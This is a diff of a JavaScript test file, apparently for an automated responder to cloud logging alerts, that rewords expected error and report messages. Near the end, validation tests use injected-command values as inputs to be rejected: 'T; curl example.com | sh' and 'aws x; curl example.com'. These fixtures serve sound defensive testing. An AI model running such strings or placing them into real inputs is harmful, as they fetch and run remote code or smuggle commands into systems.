@@ -149,7 +149,7 @@ test('a report that was sent and could not be marked so is not sent again for th
   const refused = eventOf(answeredAlert('start-logging', { eventName: 'DeleteTrail' }));
   await responded(refused, [ACTING], { ...world, ports: { ...world.ports, admitReport } });
   expect(world.reports).toHaveLength(1);
-  expect(world.notes).toEqual(['a report was sent but could not be marked so']);
+  expect(world.notes).toEqual(['a report was sent but could not be marked as sent']);
 });
 
 test('a state machine that cannot be started holds up no other response to the alert', async () => {
@@ -176,14 +176,19 @@ test('past the limit of the hour one report says that there are more, and the lo
   expect(world.reports.map(({ plan, why }) => [plan.alert.id, why])).toEqual([
     ['a', expect.stringMatching(/^only StopLogging .*trail$/)],
     ['b', expect.stringMatching(/trail$/)],
-    ['c', expect.stringMatching(/; the limit of 2 reports an hour is reached: further ones .* log .* only$/)],
+    [
+      'c',
+      expect.stringMatching(
+        /; the limit of 2 reports per hour is reached: further reports .* only in the log of the function$/,
+      ),
+    ],
   ]);
-  expect(world.notes).toEqual(Array(3).fill('an alert was not answered, and not reported'));
+  expect(world.notes).toEqual(Array(3).fill('there was no response to an alert, and no report'));
 });
 
 test.each([
-  [{ outcome: 'zzz', plan: {} }, /^outcome "zzz" is none of a response$/],
-  [{ outcome: 'toString', plan: {} }, /^outcome "toString" is none of a response$/],
+  [{ outcome: 'zzz', plan: {} }, /^outcome "zzz" is not an outcome of a response$/],
+  [{ outcome: 'toString', plan: {} }, /^outcome "toString" is not an outcome of a response$/],
   [
     { outcome: 'done', plan: { action: 'toString', alert: {} } },
     /no plan of Responder: action "toString" is none$/,
@@ -215,7 +220,7 @@ test('past the limit of the hour nothing is started, and that is reported', asyn
     worldOf({ countAction: async () => false }),
   );
   expect(started).toEqual([]);
-  expect(reports).toMatchObject([{ outcome: 'refused', why: 'the limit of 2 actions an hour is reached' }]);
+  expect(reports).toMatchObject([{ outcome: 'refused', why: 'the limit of 2 actions per hour is reached' }]);
 });
 
 test('what an action cannot do is reported with the reason', async () => {
@@ -244,7 +249,7 @@ test('a rejection without an error and a cause is reported without a reason', ()
 });
 
 test.each([
-  ['a token', { taskToken: 'T; curl example.com | sh' }, /taskToken is no token/],
+  ['a token', { taskToken: 'T; curl example.com | sh' }, /taskToken is not a Step Functions task token/],
   [
     'a command that takes it back',
     { undo: 'aws x; curl example.com' },
